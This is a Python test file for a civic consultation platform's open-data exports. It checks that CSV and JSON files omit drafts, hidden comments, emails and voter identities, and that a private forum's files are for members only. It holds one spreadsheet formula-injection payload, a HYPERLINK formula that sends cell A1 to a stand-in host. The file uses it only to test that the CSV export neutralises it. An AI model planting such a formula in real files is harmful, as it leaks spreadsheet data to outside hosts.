"""Open data of a consultation: what each file holds, what it never holds
(emails, drafts, hidden comments, ballots, voters), formula-safe CSV, and who
may download it."""

import csv
import io
import json
from datetime import UTC, datetime, timedelta
from pathlib import Path

import pytest

from consult.amendments import proposing, supports
from consult.comments import moderation
from consult.comments import services as comments
from consult.consultations import services as consultations
from consult.plans import services as plans
from consult.votes import casting as votes_casting
from consult.votes import lifecycle as votes_lifecycle
from consult.votes import setup as votes_setup
from tests.factories import sign_in

SPANISH = (Path(__file__).parent / "data" / "plan-estructurado.es.txt").read_text()
FORMULA = '=HYPERLINK("http://x.example?"&A1)'


@pytest.fixture
def world(session, make):
    """A private forum's consultation with a submitted amendment (two supports),
    a draft, a shown, a hidden and a deleted comment, and a closed secret vote."""
    forum = make.forum()
    coalition = make.coalition(forum, "Coalición Andina", "PE")
    author = make.member(forum, name="Autora Pública", coalition=coalition).user
    supporters = [make.member(forum).user for _ in range(2)]
    facilitator = make.member(forum, role="facilitator").user
    delegates = [make.member(forum) for _ in range(2)]
    for delegate in delegates:
        delegate.is_delegate = True
    plan = plans.import_plan(None, forum, SPANISH, language="es")
    plan.open_for_input = True
    key = plans.find_node(plan.current_version, "1.1").key
    submitted = proposing.propose(
        author, plan, target=key, operation="replace", text=FORMULA, submit=True
    )
    draft = proposing.propose(author, plan, target=key, operation="replace", text="Borrador.")
    session.commit()
    for supporter in supporters:
        supports.support(supporter, submitted)

    def comment(body):
        return comments.post_comment(
            author, forum, plan=plan, target_type="node", target_key=key, body=body
        )

    shown, hidden, deleted = comment("Visible."), comment("Oculto."), comment("Borrado.")
    session.commit()
    moderation.hide_comment(facilitator, hidden, "Off topic.")
    comments.delete_comment(author, deleted)
    now = datetime.now(UTC)
    poll = votes_setup.create_poll(
        facilitator,
        plan,
        subject="plan",
        scope="assembly",
        opens_at=now - timedelta(minutes=1),
        closes_at=now + timedelta(days=1),
    )
    votes_lifecycle.open_poll(facilitator, poll)
    session.commit()
    votes_casting.cast(delegates[0].user, poll, "yes")
    session.commit()
    votes_lifecycle.close_poll(facilitator, poll)
    plan = session.get(type(plan), plan.id)
    start = datetime(2030, 1, 1, tzinfo=UTC)
    consultation = consultations.create_consultation(
        None,
        plan,
        title="Consulta",
        phases=[consultations.PhaseInput("amendments", start, start + timedelta(days=30))],
    )
    session.commit()
    return {
        "forum": forum,
        "author": author,
        "member": supporters[0],
        "voter": delegates[0].user,
        "url": f"/forums/{forum.slug}/consultations/{consultation.id}/open-data",
        "submitted": submitted,
        "draft": draft,
        "comments": {"shown": shown.id, "hidden": hidden.id, "deleted": deleted.id},
    }


def rows_of(response) -> list[dict]:
    text = response.get_data(as_text=True)
    assert text.startswith("\ufeff")
    return list(csv.DictReader(io.StringIO(text[1:])))


def download(client, world, name, fmt):
    response = client.get(f"{world['url']}/{name}.{fmt}")
    assert response.status_code == 200, response.status_code
    assert "attachment" in response.headers["Content-Disposition"]
    return response


def test_amendments_with_status_and_supporters_never_drafts(client, world):
    sign_in(client, world["member"])
    (row,) = rows_of(download(client, world, "amendments", "csv"))
    assert (row["label"], row["status"], row["supporters_count"]) == (
        world["submitted"].label,
        "submitted",
        "2",
    )
    assert (row["author"], row["coalition"]) == ("Autora Pública", "Coalición Andina")
    data = json.loads(download(client, world, "amendments", "json").get_data(as_text=True))
    assert [r["id"] for r in data["rows"]] == [world["submitted"].id]
    assert data["rows"][0]["supporters_count"] == 2


def test_csv_cells_cannot_run_as_formulas(client, world):
    sign_in(client, world["member"])
    (row,) = rows_of(download(client, world, "amendments", "csv"))
    assert row["proposed_text"] == "'" + FORMULA
    data = json.loads(download(client, world, "amendments", "json").get_data(as_text=True))
    assert data["rows"][0]["proposed_text"] == FORMULA  # JSON keeps the text as it is


def test_comments_leave_out_hidden_and_deleted_ones(client, world):
    sign_in(client, world["member"])
    rows = rows_of(download(client, world, "comments", "csv"))
    assert [int(r["id"]) for r in rows] == [world["comments"]["shown"]]
    assert rows[0]["body"] == "Visible." and rows[0]["target_ref"] == "1.1"


def test_vote_results_are_totals_without_voters(client, world):
    sign_in(client, world["member"])
    (row,) = rows_of(download(client, world, "polls", "csv"))
    assert (row["ballots"], row["secret"], row["quorum_met"]) == ("1", "true", "true")
    assert row["yes"] == "1"
    text = download(client, world, "polls", "json").get_data(as_text=True)
    assert world["voter"].display_name not in text


def test_participation_figures(client, world):
    sign_in(client, world["member"])
    rows = {
        (r["metric"], r["group"]): r["value"]
        for r in rows_of(download(client, world, "participation", "csv"))
    }
    # The author and the two supporters.
    assert rows[("participants", "")] == "3"
    assert rows[("supports", "")] == "2"
    assert rows[("participants_by_coalition", "Coalición Andina")] == "1"
    assert not any("flagged" in metric for metric, _group in rows)


@pytest.mark.parametrize("name", ["amendments", "comments", "polls", "participation"])
@pytest.mark.parametrize("fmt", ["csv", "json"])
def test_no_file_contains_an_email_or_a_draft(client, world, name, fmt):
    sign_in(client, world["member"])
    text = download(client, world, name, fmt).get_data(as_text=True)
    assert "@example.org" not in text
    assert "Borrador." not in text and "Oculto." not in text and "Borrado." not in text


def test_private_forums_data_is_for_members_only(client, make, world):
    assert client.get(f"{world['url']}/amendments.csv").status_code == 404
    assert client.get(f"{world['url']}/").status_code == 404
    sign_in(client, make.member(make.forum()).user)
    assert client.get(f"{world['url']}/comments.json").status_code == 404
    assert client.get(f"{world['url']}/").status_code == 404


def test_the_page_lists_every_file_and_unknown_ones_are_not_found(client, world):
    sign_in(client, world["member"])
    html = client.get(f"{world['url']}/").get_data(as_text=True)
    for name in ("amendments", "comments", "polls", "participation"):
        assert f"{world['url']}/{name}.csv" in html and f"{world['url']}/{name}.json" in html
    assert client.get(f"{world['url']}/ballots.csv").status_code == 404
    assert client.get(f"{world['url']}/users.json").status_code == 404
